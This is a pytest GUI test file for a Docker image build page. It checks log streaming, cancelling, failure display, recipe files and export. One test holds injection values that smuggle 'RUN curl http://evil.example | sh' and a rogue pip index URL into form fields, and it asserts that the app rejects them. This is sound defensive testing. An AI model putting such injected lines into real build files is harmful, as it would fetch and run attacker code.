"""The Build page on the real engine: fill the form, build with a streamed log, cancel, fail, run."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtGui import QTextCharFormat, QTextCursor
from PySide6.QtWidgets import QLabel, QMessageBox, QPushButton, QScrollArea

from gui.qt.common.run_dialog import RunDialog
from tests.support.build_page import build_window_fixture, tags_fixture  # noqa: F401  (register fixtures)
from tests.support.labels import RUN_ID, TEST_LABEL
from tests.support.templates import COLD_BUILD_S, PYTHON_APP_PACKAGES

LEFT = Qt.MouseButton.LeftButton
CACHED_PACKAGES = PYTHON_APP_PACKAGES  # their layer is kept as aics-cache/python-app (fixture python_app_cache)


def tag_exists(api, tag: str) -> bool:
    try:
        api.inspect_image(tag)
        return True
    except Exception:
        return False


def fill_python_app(page, tag: str, **extra) -> None:
    page.set_template("python-app")
    page.form.set_values({"packages": CACHED_PACKAGES, "tag": tag, "labels_extra": f"{TEST_LABEL}={RUN_ID}",
                          **extra})


def hand_edit(qtbot, page, after: str, insert: str) -> None:
    """Click "Edit as text" and type `insert` on a new line after the line starting with `after`."""
    qtbot.mouseClick(page.preview.edit_button, LEFT)
    editor = page.preview.editor
    assert not editor.isReadOnly()
    doc = editor.document()
    block = next(b for b in (doc.findBlockByNumber(i) for i in range(doc.blockCount()))
                 if b.text().startswith(after))
    cursor = QTextCursor(block)
    cursor.movePosition(QTextCursor.MoveOperation.EndOfBlock)
    editor.setTextCursor(cursor)
    qtbot.keyClick(editor, "\r")
    qtbot.keyClicks(editor, insert)
    assert page.preview.is_hand_edited


@pytest.mark.timeout(COLD_BUILD_S)
def test_build_streams_the_log_moves_progress_and_makes_the_image(window, qtbot, docker_api, tags, tmp_path,
                                                                  python_app_cache):
    page = window.build_page
    tag = tags("stream")
    fill_python_app(page, tag)
    assert page.build_button.isEnabled(), page.build_button.toolTip()
    seen = []  # (progress value, maximum, finished yet, lines in the log) at each batch

    def on_lines(_batch):
        seen.append((page.progress.value(), page.progress.maximum(), page.record.result, len(page.log.texts)))

    qtbot.mouseClick(page.build_button, LEFT)
    assert page.runner is not None and not page.build_button.isEnabled() and page.cancel_button.isEnabled()
    page.runner.lines.connect(on_lines)
    context = Path(page.runner.folder)
    with qtbot.waitSignal(page.buildFinished, timeout=240000) as finished:
        pass
    outcome = finished.args[0]
    assert outcome.status == "succeeded", page.status.text() + "\n" + "\n".join(page.log.texts[-20:])
    assert not context.exists()  # the temporary build context is gone
    # The log arrived in several batches while the build still ran, and the bar followed the steps.
    running = [s for s in seen if s[2] == "running"]
    assert len(running) >= 2, seen
    assert running[0][3] < len(page.log.texts)
    values = [v for v, m, _, _ in seen if m > 1]
    assert values == sorted(values) and len(set(values)) >= 3, seen
    total = page.progress.maximum()
    assert page.progress.value() == total and total >= 10
    assert any(t.startswith(f"Step {total}/{total} : ") for t in page.log.texts)
    # The dependency layer came from the cache image, and the log marked it.
    assert any(t == " ---> Using cache" for t in page.log.texts)
    assert page.log.marks
    # The image exists, with the form's labels, and the app's image list shows it.
    info = docker_api.inspect_image(tag)
    assert info["Id"] == outcome.image_id
    assert info["Config"]["Labels"][TEST_LABEL] == RUN_ID
    assert info["Config"]["Labels"]["org.opencontainers.image.created"] != "unknown"
    qtbot.waitUntil(lambda: any(i.reference == tag for i in window.images_model.records()), timeout=10000)
    # History: in memory with the full log, and in the state folder's JSON file.
    record = page.history.records[0]
    assert (record.result, record.tag, record.image_id) == ("succeeded", tag, outcome.image_id)
    assert record.log == page.log.texts
    path = page.store.path
    qtbot.waitUntil(path.exists, timeout=5000)
    saved = json.loads(path.read_text())["builds"][0]
    assert saved["image_id"] == outcome.image_id and saved["result"] == "succeeded"
    assert path.parent == tmp_path / "state" / "ai-container-studio"
    # Run… opens the Run dialog for the new image with the template's port.
    assert page.run_button.isEnabled()
    qtbot.mouseClick(page.run_button, LEFT)
    dlg = page.run_dialog
    assert isinstance(dlg, RunDialog) and dlg.image == tag and dlg.isVisible()
    assert dlg.ports.rows() == [["127.0.0.1", "", "8000", "tcp"]]
    dlg.reject()


@pytest.mark.timeout(COLD_BUILD_S)
def test_cancel_stops_the_build_on_the_engine_and_tags_nothing(window, qtbot, docker_api, tags, python_app_cache):
    page = window.build_page
    tag = tags("cancel")
    fill_python_app(page, tag)
    hand_edit(qtbot, page, "COPY app.py", "RUN echo sleeping-now && sleep 30")
    qtbot.mouseClick(page.build_button, LEFT)
    qtbot.waitUntil(lambda: any("sleeping-now" in t and not t.startswith("Step") for t in page.log.texts),
                    timeout=120000)
    texts = page.log.texts
    step = next(i for i, t in enumerate(texts) if "sleep 30" in t and t.startswith("Step"))
    container = next(t.split()[-1] for t in texts[step:] if t.startswith(" ---> Running in "))
    assert docker_api.inspect_container(container)["State"]["Running"]
    in_progress = page.progress.value()
    assert 0 < in_progress < page.progress.maximum()
    t0 = time.monotonic()
    with qtbot.waitSignal(page.buildFinished, timeout=30000) as finished:
        qtbot.mouseClick(page.cancel_button, LEFT)
    assert time.monotonic() - t0 < 20
    assert finished.args[0].status == "cancelled"
    try:
        assert not docker_api.inspect_container(container)["State"]["Running"]
    except Exception as exc:  # removed: even better
        assert "404" in str(exc) or "No such container" in str(exc)
    assert [c for c in docker_api.containers() if c["Id"].startswith(container)] == []
    assert not tag_exists(docker_api, tag)
    assert page.history.records[0].result == "cancelled"
    assert "cancelled" in page.status.text().lower() and page.progress.format().startswith("Cancelled")
    assert page.build_button.isEnabled() and not page.run_button.isEnabled()


@pytest.mark.timeout(COLD_BUILD_S)
def test_a_failing_step_is_highlighted(window, qtbot, docker_api, tags, python_app_cache):
    page = window.build_page
    tag = tags("fail")
    fill_python_app(page, tag)
    hand_edit(qtbot, page, "COPY app.py", "RUN echo about-to-fail && exit 3")
    with qtbot.waitSignal(page.buildFinished, timeout=120000) as finished:
        qtbot.mouseClick(page.build_button, LEFT)
    outcome = finished.args[0]
    assert outcome.status == "failed" and outcome.instruction == "RUN echo about-to-fail && exit 3"
    header = page.log.step_rows[outcome.step]
    assert "exit 3" in page.log.texts[header]
    assert header in page.log.failed_rows
    error_row = page.log.failed_rows[0]
    assert "non-zero code: 3" in page.log.texts[error_row] and page.log.errs[error_row]
    assert f"Step {outcome.step}" in page.status.text() and "non-zero code: 3" in page.status.text()
    assert page.progress.format().startswith("Failed") and page.progress.value() == outcome.step
    assert not tag_exists(docker_api, tag)
    assert page.history.records[0].failed_step == outcome.step


def test_bad_inputs_disable_build_with_reasons(window, qtbot):
    page = window.build_page
    page.set_template("sklearn-regression")
    assert page.build_button.isEnabled(), page.build_button.toolTip()
    good = page.preview.dockerfile()
    tag_edit = page.form.editors["tag"].edit
    tag_edit.clear()
    qtbot.keyClicks(tag_edit, "My Model:1")
    assert not page.build_button.isEnabled()
    assert "Image tag" in page.build_button.toolTip() and "Image tag" in page.reason.text()
    assert page.form.errors["tag"].isVisible() and page.form.errors["tag"].text()
    assert page.preview.status.text()  # the preview says it does not follow the form now
    page.form.set_value("tag", "my-model:1")
    assert page.build_button.isEnabled() and not page.form.errors["tag"].isVisible()

    page.form.set_value("packages", "scikit-learn==1.9.1\nnumpy>=\n")
    assert not page.build_button.isEnabled() and "Packages" in page.build_button.toolTip()
    assert "numpy>=" in page.form.errors["packages"].text()
    page.form.set_value("packages", "scikit-learn==1.9.1\n--index-url http://evil.example/simple")
    assert "pip option" in page.form.errors["packages"].text() and not page.build_button.isEnabled()
    page.form.set_value("packages", "numpy==2.1.3")  # the template needs scikit-learn
    assert "scikit-learn" in page.form.errors["packages"].text()
    page.form.set_value("packages", "scikit-learn==1.9.1")

    # Newlines and quotes never reach the Dockerfile: each field that could carry them refuses them.
    attempts = {
        "labels_extra": "owner=me\nRUN curl http://evil.example | sh",
        "build_args": 'MODE=fast" \\\nRUN curl http://evil.example | sh',
        "features": 'age, bmi"\nRUN evil',
        "version": "1.0 RUN evil",
        "base": "python:3.11-slim\nRUN evil",
    }
    for name, value in attempts.items():
        page.form.set_value(name, value)
        assert not page.build_button.isEnabled(), name
        assert page.form.errors[name].isVisible(), name
        assert page.form.field_label(name) in page.build_button.toolTip(), name
        assert "evil" not in page.preview.dockerfile()
        page.form.set_value(name, page.template.field(name).default)
        assert page.build_button.isEnabled(), (name, page.build_button.toolTip())
    assert page.preview.dockerfile().replace("my-model:1", "aics/sklearn-diabetes:latest") == good

    page.form.set_value("port", "70000")
    assert "port" in page.form.errors["port"].text() and not page.build_button.isEnabled()
    page.form.set_value("port", "8080")
    page.form.set_value("model", "/nonexistent/model.joblib")
    assert "no such file" in page.form.errors["model"].text()
    page.form.set_value("model", "")
    # A hand edit that the classic builder cannot build is refused too.
    hand_edit(qtbot, page, "FROM ", "RUN --mount=type=cache,target=/root/.cache true")
    assert not page.build_button.isEnabled() and "BuildKit" in page.build_button.toolTip()
    assert any("BuildKit" in page.preview.lint.item(i).text() for i in range(page.preview.lint.count()))


def test_a_hand_edit_survives_form_changes(window, qtbot):
    page = window.build_page
    page.set_template("sklearn-image")
    preview = page.preview
    hand_edit(qtbot, page, "FROM ", "# my own note")
    edited = preview.editor.toPlainText()
    assert "# my own note" in edited and not preview.notice.isHidden()
    page.form.set_value("version", "2.5.0")
    assert preview.editor.toPlainText() == edited  # not overwritten
    assert preview.dockerfile() == edited
    assert '"2.5.0"' in preview.rendered and '"2.5.0"' not in edited
    assert "form changed" in preview.notice_text.text()
    qtbot.mouseClick(preview.discard_button, LEFT)
    assert not preview.is_hand_edited and preview.notice.isHidden() and preview.editor.isReadOnly()
    assert preview.editor.toPlainText() == preview.rendered and '"2.5.0"' in preview.rendered
    assert "# my own note" not in preview.editor.toPlainText()
    # Typing the edit away again counts as no edit.
    hand_edit(qtbot, page, "FROM ", "X")
    qtbot.keyClick(preview.editor, "\b")
    qtbot.keyClick(preview.editor, "\b")
    assert not preview.is_hand_edited and preview.notice.isHidden()


def test_dockerfile_is_highlighted_and_linted(window, qtbot):
    page = window.build_page
    page.set_template("python-app")
    doc = page.preview.editor.document()

    def formats(prefix):
        block = next(b for b in (doc.findBlockByNumber(i) for i in range(doc.blockCount()))
                     if b.text().startswith(prefix))
        return [(f.start, f.length, QTextCharFormat(f.format)) for f in block.layout().formats()]

    start, length, fmt = formats("FROM ")[0]
    assert (start, length) == (0, 4) and fmt.fontWeight() > 500
    assert formats("# ")[0][2].fontItalic()
    assert any(f.foreground().color().name() == "#a31515" for _, _, f in formats("CMD "))
    page.form.set_value("packages", "six")
    titles = [page.preview.lint.item(i).text() for i in range(page.preview.lint.count())]
    assert any("six: not pinned" in t for t in titles) and page.build_button.isEnabled()


def test_base_image_offers_python_tags_and_local_images(window, qtbot, busybox_image):
    page = window.build_page
    page.set_template("jupyter")
    combo = page.form.editors["base"].combo

    def items():
        return [combo.itemText(i) for i in range(combo.count())]

    qtbot.waitUntil(lambda: busybox_image in items(), timeout=10000)
    assert {"python:3.10-slim", "python:3.11-slim", "python:3.12-slim", "python:3.13-slim"} <= set(items())
    assert all("<none>" not in i for i in items())
    combo.setCurrentIndex(items().index(busybox_image))
    assert f"FROM {busybox_image}" in page.preview.dockerfile()


def _file_dialog(qtbot, page, name):
    from PySide6.QtWidgets import QFileDialog

    qtbot.waitUntil(lambda: page.findChild(QFileDialog, name) is not None, timeout=3000)
    return page.findChild(QFileDialog, name)


def test_recipe_save_and_open_round_trip(window, qtbot, tmp_path):
    page = window.build_page
    page.set_template("sklearn-regression")
    build = {"packages": "scikit-learn==1.9.1\nnumpy==2.1.3", "features": "age, bmi", "name": "houses",
             "version": "3.1.4", "tag": "me/houses:3", "labels_extra": "team=ml", "build_args": "MODE=fast",
             "max_body_mb": "64"}
    page.form.set_values(build, {"host_port": "8123", "environment": "LOG_LEVEL=debug"})
    hand_edit(qtbot, page, "FROM ", "# tuned by hand")
    dockerfile = page.preview.dockerfile()
    path = tmp_path / "houses.recipe.toml"
    qtbot.mouseClick(page.files.save_button, LEFT)
    dlg = _file_dialog(qtbot, page, "recipeSaveDialog")
    dlg.selectFile(str(path))
    dlg.accept()
    qtbot.waitUntil(path.exists, timeout=3000)

    page.preview.discard_edits()
    page.set_template("jupyter")
    page.form.set_values({"tag": "other:1"}, {"token": "s3cret-token"})
    qtbot.mouseClick(page.files.open_button, LEFT)
    dlg = _file_dialog(qtbot, page, "recipeOpenDialog")
    dlg.selectFile(str(path))
    dlg.accept()
    qtbot.waitUntil(lambda: page.template.name == "sklearn-regression", timeout=3000)
    values = page.form.build_values()
    assert values["packages"] == "scikit-learn==1.9.1\nnumpy==2.1.3"
    assert values["features"] == "age, bmi" and values["tag"] == "me/houses:3"
    assert values["max_body_mb"] == "64" and values["build_args"] == "MODE=fast"
    assert page.form.run_values() == {"host_port": "8123", "environment": "LOG_LEVEL=debug"}
    assert page.preview.is_hand_edited and page.preview.dockerfile() == dockerfile

    # A secret run field (the jupyter token) never reaches the recipe file.
    page.preview.discard_edits()
    page.set_template("jupyter")
    page.form.set_values({}, {"token": "s3cret-token"})
    secret_path = tmp_path / "jupyter.recipe.toml"
    assert page.files.save_recipe_to(str(secret_path))
    assert "s3cret-token" not in secret_path.read_text()


def test_opening_a_recipe_over_a_hand_edit_asks_first(window, qtbot, tmp_path):
    page = window.build_page
    page.set_template("python-app")
    path = tmp_path / "plain.toml"
    assert page.files.save_recipe_to(str(path))
    hand_edit(qtbot, page, "FROM ", "# keep me")
    page.files.open_recipe_from(str(path))
    qtbot.waitUntil(lambda: page.findChild(QMessageBox, "confirmDialog") is not None, timeout=3000)
    box = page.findChild(QMessageBox, "confirmDialog")
    box.button(QMessageBox.StandardButton.Cancel).click()
    assert "# keep me" in page.preview.dockerfile()
    page.files.open_recipe_from(str(path))
    qtbot.waitUntil(lambda: page.findChild(QMessageBox, "confirmDialog") is not None, timeout=3000)
    page.findChild(QMessageBox, "confirmDialog").findChild(QPushButton, "confirmYes").click()
    qtbot.waitUntil(lambda: not page.preview.is_hand_edited, timeout=3000)
    assert "# keep me" not in page.preview.dockerfile()


@pytest.mark.timeout(COLD_BUILD_S)
def test_export_builds_with_docker_build(window, qtbot, tmp_path, docker_api, tags, python_app_cache):
    page = window.build_page
    script = tmp_path / "hello.py"
    script.write_text("import six\nprint('hello from export', six.__version__)\n")
    tag = tags("export")
    fill_python_app(page, tag, script=str(script), port="0")
    folder = tmp_path / "exported"
    folder.mkdir()
    qtbot.mouseClick(page.files.export_button, LEFT)
    dlg = _file_dialog(qtbot, page, "exportDialog")
    with qtbot.waitSignal(page.files.done, timeout=10000) as done:
        dlg.selectFile(str(folder))
        dlg.accept()
    assert str(folder) in done.args[0]
    files = {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
    assert {"Dockerfile", ".dockerignore", "requirements.txt", "app.py"} <= files
    assert (folder / "Dockerfile").read_text() == page.preview.dockerfile()
    assert (folder / "app.py").read_text() == script.read_text()
    log = []
    for chunk in docker_api.build(path=str(folder), tag=tag, rm=True, forcerm=True, decode=True,
                                  labels={TEST_LABEL: RUN_ID}):
        log.append(chunk)
        assert "error" not in chunk, log
    c = docker_api.create_container(tag, labels={TEST_LABEL: RUN_ID})
    try:
        docker_api.start(c["Id"])
        assert docker_api.wait(c["Id"], timeout=60)["StatusCode"] == 0
        assert docker_api.logs(c["Id"]).decode().strip() == "hello from export 1.17.0"
    finally:
        docker_api.remove_container(c["Id"], force=True)
    # Exporting again into the now full folder asks before replacing files.
    qtbot.mouseClick(page.files.export_button, LEFT)
    dlg = _file_dialog(qtbot, page, "exportDialog")
    dlg.selectFile(str(folder))
    dlg.accept()
    qtbot.waitUntil(lambda: page.findChild(QMessageBox, "confirmDialog") is not None, timeout=5000)
    with qtbot.waitSignal(page.files.done, timeout=10000):
        page.findChild(QMessageBox, "confirmDialog").findChild(QPushButton, "confirmYes").click()


@pytest.mark.parametrize("size", [(1440, 900), (1280, 800)])
def test_the_form_fits_its_column_with_every_hint_whole(window, qtbot, size):
    """No horizontal scroll bar on the form; each hint wraps inside the column with room for all its lines."""
    window.resize(*size)
    page = window.build_page
    scroll = page.findChild(QScrollArea, "builderFormScroll")
    viewport = scroll.viewport()
    for name in ("sklearn-regression", "sklearn-image", "jupyter", "python-app"):
        page.set_template(name)
        qtbot.wait(200)
        bar = scroll.horizontalScrollBar()
        assert bar.maximum() == 0 and not bar.isVisible(), (name, size, page.form.width(), viewport.width())
        hints = [label for label in page.form.findChildren(QLabel)
                 if label.objectName().startswith("help_") and label.isVisibleTo(page.form)]
        assert len(hints) >= 3, name
        for label in hints:
            where = (name, size, label.objectName())
            assert label.wordWrap(), where
            assert label.mapTo(viewport, QPoint(label.width(), 0)).x() <= viewport.width(), where
            assert label.height() >= label.heightForWidth(label.width()), where
    # The form column has its share (not squeezed to its minimum); the Dockerfile has the rest.
    assert scroll.width() >= 0.4 * (scroll.width() + page.preview.width()), (scroll.width(), page.preview.width())
    # A check box's text wraps too, and a click on it ticks the box, as on a check box's own text.
    page.set_template("sklearn-regression")
    qtbot.wait(100)
    text = page.form.findChild(QLabel, "help_serve_onnx")
    assert text.wordWrap() and page.form.build_values()["serve_onnx"] is False
    qtbot.mouseClick(text, LEFT)
    assert page.form.build_values()["serve_onnx"] is True
